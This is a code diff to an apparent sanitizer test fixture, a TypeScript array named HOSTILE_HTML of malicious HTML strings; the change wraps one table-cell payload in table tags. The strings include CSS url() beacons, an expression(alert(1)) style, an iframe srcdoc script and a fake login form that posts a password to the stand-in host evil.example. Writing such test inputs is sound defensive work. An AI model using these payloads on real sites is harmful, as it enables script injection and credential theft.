@@ -15,7 +15,7 @@ export const HOSTILE_HTML: readonly string[] = [
   `<p style="background:url(https://evil.example/a.png);color:red">styled</p>`,
   `<p style="background:u\\72l(https://evil.example/b.png)">escaped</p>`,
   `<p style="background-image:image-set('https://evil.example/c.png' 1x);list-style:url('//evil.example/d.png')">set</p>`,
-  `<td background="https://evil.example/e.png"><font color="red" style="width:expression(alert(1))">cell</font></td>`,
+  `<table><tr><td background="https://evil.example/e.png"><font color="red" style="width:expression(alert(1))">cell</font></td></tr></table>`,
   `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.document.title='taken over'</script>"></iframe>`,
   `<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code="x"></applet>`,
   `<form action="https://evil.example/login"><input name="password" autofocus onfocus="${RUN}"><button formaction="https://evil.example/b">Sign in</button></form>`,
